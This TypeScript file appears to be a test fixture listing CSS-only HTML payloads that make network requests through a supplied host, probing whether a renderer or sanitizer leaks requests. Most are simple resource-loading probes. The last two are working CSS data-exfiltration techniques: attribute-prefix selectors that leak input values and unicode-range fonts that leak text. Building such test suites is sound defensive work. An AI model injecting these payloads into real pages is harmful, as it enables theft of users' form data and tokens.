import type { Payload } from './payload.ts'

const style =
  (css: (http: string) => string): Payload['html'] =>
  ({ http }) =>
    `<style>${css(http)}</style><p id=x class=x>text</p>`

/** Requests made by CSS, without scripts. */
export const styles: Payload[] = [
  { name: 'css-import', html: style((http) => `@import "${http}/a.css";`) },
  { name: 'css-import-print', html: style((http) => `@import url(${http}/a.css) print;`) },
  { name: 'css-import-layer', html: style((http) => `@import url(${http}/a.css) layer(x) supports(display: grid);`) },
  { name: 'css-background', html: style((http) => `p { background: url(${http}/a.svg) }`) },
  {
    name: 'css-escaped',
    html: style((http) => `p { background: u\\72l("${http.replace('http', '\\68ttp')}/a.svg") }`),
  },
  {
    name: 'css-font-face',
    html: style((http) => `@font-face { font-family: x; src: url(${http}/a.woff2) } p { font-family: x }`),
  },
  {
    name: 'css-font-unicode-range',
    html: style(
      (http) => `@font-face { font-family: x; src: url(${http}/a); unicode-range: U+74 } p { font-family: x }`,
    ),
  },
  { name: 'css-list-style', html: style((http) => `p { display: list-item; list-style-image: url(${http}/a.svg) }`) },
  { name: 'css-content', html: style((http) => `p::before { content: url(${http}/a.svg) }`) },
  { name: 'css-cursor', html: style((http) => `p { cursor: url(${http}/a.cur), auto }`) },
  { name: 'css-border-image', html: style((http) => `p { border: 9px solid; border-image: url(${http}/a.svg) 3 }`) },
  { name: 'css-mask', html: style((http) => `p { mask: url(${http}/a.svg) }`) },
  { name: 'css-mask-fragment', html: style((http) => `p { mask: url(${http}/a.svg#m) }`) },
  { name: 'css-filter', reaches: 'none', html: style((http) => `p { filter: url(${http}/a.svg#f) }`) },
  { name: 'css-clip-path', html: style((http) => `p { clip-path: url(${http}/a.svg#c) }`) },
  { name: 'css-shape-outside', html: style((http) => `p { float: left; shape-outside: url(${http}/a.svg) }`) },
  {
    name: 'css-image-set',
    html: style((http) => `p { background: image-set("${http}/a.svg" 1x, "${http}/b.svg" 2x) }`),
  },
  {
    name: 'css-cross-fade',
    html: style((http) => `p { background: -webkit-cross-fade(url(${http}/a.svg), url(${http}/b.svg), 50%) }`),
  },
  { name: 'css-variable', html: style((http) => `:root { --x: url(${http}/a.svg) } p { background: var(--x) }`) },
  { name: 'css-media-print', html: style((http) => `@media print { p { background: url(${http}/a.svg) } }`) },
  { name: 'css-page-margin', html: style((http) => `@page { @top-left { content: url(${http}/a.svg) } }`) },
  { name: 'css-attribute', html: ({ http }) => `<p style="background:url(${http}/a.svg)">x` },
  {
    name: 'css-attribute-exfiltration',
    html: ({
      http,
    }) => `<style>${[...'0123456789abcdef'].map((c) => `input[value^="${c}"]{background:url(${http}/${c}.svg)}`).join('')}
      </style><input value=a123>`,
  },
  {
    name: 'css-font-exfiltration',
    html: ({
      http,
    }) => `<style>${[...'abc'].map((c) => `@font-face{font-family:x;src:url(${http}/${c});unicode-range:U+${c.charCodeAt(0).toString(16)}}`).join('')}
      p{font-family:x}</style><p>abc`,
  },
]
